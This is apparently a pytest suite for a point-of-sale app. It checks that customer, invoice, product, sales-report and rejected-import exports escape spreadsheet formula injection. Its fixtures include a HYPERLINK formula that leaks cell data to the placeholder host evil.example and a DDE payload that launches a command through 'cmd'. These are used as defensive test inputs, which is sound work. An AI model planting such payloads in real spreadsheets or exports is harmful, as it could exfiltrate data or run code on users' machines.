"""Every CSV and XLSX the app writes: no cell a spreadsheet would run as a formula.

The files are the customer, invoice and product exports, the sales report CSV and the import's
rejected-rows file (the GUI's list exports and the reports screen write these same files).
Each is filled with values a visitor or a cashier could type (``=HYPERLINK``, ``@SUM``, a phone
``+49...``, full-width ``＝``) and read back as a spreadsheet would see it.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from pos_desktop.bootstrap import Services
from pos_desktop.domain.customer import CustomerInput
from pos_desktop.domain.invoice import LineInput, PaymentInput, PaymentMethod
from pos_desktop.domain.roles import Actor
from pos_desktop.domain.spreadsheet_cells import FORMULA_STARTS
from pos_desktop.services.customer_import import ImportOptions
from pos_desktop.services.exhibitions import ExhibitionInput
from pos_desktop.services.reports import sales_report_csv
from pos_desktop.services.sales import SaleInput
from tests.conftest import CLI, PASSWORD
from tests.support.cli import Cli

EVIL_NOTES = '=HYPERLINK("http://evil.example/?"&A1, "click")'
NEGATIVE_NUMBER = re.compile(r"-\d+(\.\d+)?")


def assert_safe(cells: list[object], where: str) -> None:
    for cell in cells:
        if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
            assert NEGATIVE_NUMBER.fullmatch(cell), f"{where}: formula-looking cell {cell!r}"


def csv_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.reader(stream))


def xlsx_cells(path: Path) -> list[list[object]]:
    book = load_workbook(path)  # not read-only: cell types are checked too
    sheet = book.worksheets[0]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)  # no formula
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.fixture
def admin(services: Services) -> Actor:
    """An installation whose exhibition, customers and products hold formula-looking text."""
    services.setup.initialize(
        CLI,
        admin_username="admin",
        admin_password=PASSWORD,
        exhibition=ExhibitionInput(name="@Expo -Night", code="EXPO24", currency="EUR"),
    )
    actor = services.users.login("admin", PASSWORD)
    evil = services.customers.register(
        actor,
        CustomerInput(
            name="@Ann Evil",
            email="evil@example.org",
            phone="+49 30 1234567",
            notes=EVIL_NOTES,
            city="\uff1dcmd",  # full-width equals sign
        ),
    )
    services.products.add(
        actor,
        sku="MUG",
        name="-Mug of the day",
        price="9.00",
        vat_rate="19",
        category="+cups",
        barcodes=["4006381333931"],
    )
    services.billing.create_invoice(
        actor,
        SaleInput(
            [LineInput("@home mug", Decimal(1), Decimal("9.00"), Decimal(19))],
            evil.code,
            [PaymentInput(PaymentMethod.CASH, Decimal("9.00"))],
        ),
    )
    return actor


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_customer_and_invoice_exports(
    services: Services, admin: Actor, tmp_path: Path, kind: str
) -> None:
    customers, invoices = tmp_path / f"customers.{kind}", tmp_path / f"invoices.{kind}"
    services.exports.export_customers(admin, customers)
    services.exports.export_invoices(admin, invoices)
    read = csv_cells if kind == "csv" else xlsx_cells
    customer_rows, invoice_rows = read(customers), read(invoices)
    for row in customer_rows + invoice_rows:
        assert_safe(list(row), kind)
    header = list(customer_rows[0])
    evil = dict(zip(header, customer_rows[1], strict=True))
    assert evil["name"] == "'@Ann Evil"
    assert evil["notes"] == "'" + EVIL_NOTES
    assert evil["phone"] == "'+49301234567"
    assert evil["city"] == "'\uff1dcmd"
    assert invoice_rows[1][4] == "'@Ann Evil"  # customer_name
    assert invoice_rows[1][6] == "9.00"


def test_product_export_and_import_back(services: Services, admin: Actor, tmp_path: Path) -> None:
    path = tmp_path / "products.csv"
    services.product_files.export_csv(admin, path)
    rows = csv_cells(path)
    for row in rows:
        assert_safe(list(row), "products")
    assert rows[1][2:4] == ["'-Mug of the day", "'+cups"]
    report = services.product_files.import_file(admin, path, dry_run=True)
    assert (report.count("unchanged"), report.count("rejected")) == (1, 0)


def test_sales_report_csv(services: Services, admin: Actor, cli_tz: ZoneInfo) -> None:
    today = services.clock.now().astimezone(cli_tz).date()
    report = services.reports.sales(admin, today - timedelta(days=1), today, cli_tz)
    rows = list(csv.reader(io.StringIO(sales_report_csv(report))))
    for row in rows:
        assert_safe(list(row), "sales report")
    assert rows[0][:2] == ["Sales report", "'@Expo -Night"]
    assert ["Total", "1", "7.56", "1.44", "9.00"] in rows


def test_the_rejects_file(services: Services, admin: Actor, tmp_path: Path) -> None:
    source = tmp_path / "people.csv"
    source.write_text(
        "Name,Email,=Header\n,@cmd,x\n-2+3+cmd|' /C calc'!A0,not an email,y\n", encoding="utf-8"
    )
    rejects = tmp_path / "rejects.csv"
    services.customer_import.run(admin, source, ImportOptions(rejects_path=rejects))
    rows = csv_cells(rejects)
    assert len(rows) == 3
    for row in rows:
        assert_safe(list(row), "rejects")
    assert rows[0][2] == "'=Header"
    assert rows[2][0] == "'-2+3+cmd|' /C calc'!A0"


def test_report_sales_csv_and_product_export_from_the_cli(cli: Cli, tmp_path: Path) -> None:
    cli.ok("product", "add", "--sku", "PIN", "--name", "@Pin", "--price", "2.00", "--vat", "19")
    cli.ok("invoice", "create", "--item", "PIN:1", "--pay", "cash:2")
    out = cli.ok("report", "sales", "--csv").stdout
    for row in csv.reader(io.StringIO(out)):
        assert_safe(list(row), "report sales --csv")
    target = tmp_path / "products.csv"
    cli.ok("product", "export", str(target))
    rows = csv_cells(target)
    assert rows[1][2] == "'@Pin"
    for row in rows:
        assert_safe(list(row), "product export")


@pytest.fixture
def cli_tz() -> ZoneInfo:
    return ZoneInfo("UTC")
